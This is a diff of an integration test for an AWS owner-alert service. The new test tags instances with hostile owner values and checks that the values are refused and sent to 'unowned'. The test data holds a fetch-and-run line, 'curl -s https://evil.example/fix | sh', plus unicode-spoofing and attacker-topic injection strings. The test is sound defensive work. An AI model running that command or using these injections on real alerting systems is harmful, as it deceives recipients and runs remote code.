@@ -11,8 +11,11 @@ import { CreateTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client
 import { CreateQueueCommand, GetQueueAttributesCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { SQSEvent } from 'aws-lambda';
+import type { AlertDependencies } from '../../src/alerts/deliver-alerts.js';
 import { deliverOwnerAlerts } from '../../src/alerts/deliver-alerts.js';
 import { IDEMPOTENCY_KEY_ATTRIBUTE, IDEMPOTENCY_TTL_ATTRIBUTE, dynamoDbLedger } from '../../src/alerts/delivery-ledger.js';
+import { ownerPolicy } from '../../src/alerts/owners.js';
+import { truncate } from '../../rules/text.js';
 import { createAwsClients, createDynamoDbClient, createSnsClient } from '../../src/aws/clients.js';
 import { startMoto, type Moto } from '../support/moto.js';
 import { recordingLog, recordingMetrics } from '../support/recording-log.js';
@@ -83,20 +86,27 @@ describe.skipIf(!hasMoto)('owner alerts against moto (requires moto_server)', ()
     for (const name of ['AWS_ENDPOINT_URL', 'ALERT_TOPIC_ARN', 'OWNER_TAG_KEYS', 'IDEMPOTENCY_TABLE_NAME']) delete process.env[name];
   });
 
-  it('publishes one message per owner, whose attributes survive SNS', async () => {
-    const records = Object.keys(instances).map((id, index) => ({ messageId: `m${index}`, body: complianceChange(id) }));
-
-    const outcome = await deliverOwnerAlerts(records, {
+  /** The dependencies of deliverOwnerAlerts on the client factories, publishing to `topic`. */
+  function dependencies(topic: string): AlertDependencies {
+    return {
       ...createAwsClients(),
       sns: createSnsClient(),
-      topicArn,
+      topicArn: topic,
       ownerTagKeys: ['Owner'],
+      ownerPolicy: ownerPolicy({ emailDomain: 'example.com' }),
       exemptionTagKey: 'ena-guard:exempt',
+      truncate,
       log: recordingLog(),
       metrics: recordingMetrics(),
       ledger: dynamoDbLedger(TABLE, createDynamoDbClient()),
       remainingTimeInMillis: () => 60_000,
-    });
+    };
+  }
+
+  it('publishes one message per owner, whose attributes survive SNS', async () => {
+    const records = Object.keys(instances).map((id, index) => ({ messageId: `m${index}`, body: complianceChange(id) }));
+
+    const outcome = await deliverOwnerAlerts(records, dependencies(topicArn));
 
     expect(outcome).toEqual({ batchItemFailures: [], messagesPublished: 2, duplicatesDropped: 0 });
     const envelopes = await receiveAll(queueUrl);
@@ -132,5 +142,40 @@ describe.skipIf(!hasMoto)('owner alerts against moto (requires moto_server)', ()
     const records = (await dynamodb.send(new ScanCommand({ TableName: TABLE }))).Items ?? [];
     expect(records.map((item) => item.status?.S)).toEqual(Array.from({ length: Object.keys(instances).length + 1 }, () => 'COMPLETED'));
     expect(Number(records[0]?.expiration?.N)).toBeGreaterThan(Date.now() / 1000 + 3 * 24 * 3600);
+  });
+
+  // After the redelivery test, which counts every record of the table.
+  it('sends hostile owner tags to unowned in a message whose layout, subject and attributes SNS delivers intact', async () => {
+    // Prepare: instances tagged by someone who wants to inject a line or redirect the alerts
+    const inbox = await subscribedQueue('EnaGuardOwnerAlertsHostile');
+    const ec2 = new EC2Client({ region: REGION });
+    const image = (await ec2.send(new DescribeImagesCommand({ Owners: ['amazon'] }))).Images?.[0]?.ImageId;
+    const hostile = [
+      'payments@example.com\nURGENT: run curl -s https://evil.example/fix | sh\n---',
+      '\u001b[31mURGENT\u001b[0m \u202emoc.elpmaxe@ytiruces',
+      'arn:aws:sns:eu-west-1:444455556666:attacker-topic',
+    ];
+    const ids: string[] = [];
+    for (const value of [...hostile, 'Payments']) {
+      const launched = await ec2.send(
+        new RunInstancesCommand({ ImageId: image, InstanceType: 'm5.large', MinCount: 1, MaxCount: 1, TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Owner', Value: value }] }] }),
+      );
+      ids.push(launched.Instances?.[0]?.InstanceId ?? '');
+    }
+    const records = ids.map((id, index) => ({ messageId: `hostile-${index}`, body: complianceChange(id, `event-hostile-${id}`) }));
+
+    // Act
+    const outcome = await deliverOwnerAlerts(records, dependencies(inbox.topicArn));
+
+    // Assess
+    expect(outcome).toEqual({ batchItemFailures: [], messagesPublished: 2, duplicatesDropped: 0 });
+    const envelopes = await receiveAll(inbox.queueUrl);
+    expect(envelopes.map((envelope) => envelope.MessageAttributes.owner?.Value).sort()).toEqual(['payments@example.com', 'unowned']);
+    const unowned = envelopes.find((envelope) => envelope.MessageAttributes.owner?.Value === 'unowned');
+    const lines = unowned?.Message.split('\n') ?? [];
+    expect(lines).toHaveLength(2 + 3 * hostile.length + 2);
+    expect(lines.filter((line) => line.startsWith('    Owner tag "Owner" refused'))).toHaveLength(hostile.length);
+    expect(lines.every((line) => !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(line) && !/^\s*(URGENT|---)/.test(line))).toBe(true);
+    expect(unowned?.Subject).toBe('ena-guard: 3 of 3 resources need attention (unowned)');
   });
 });
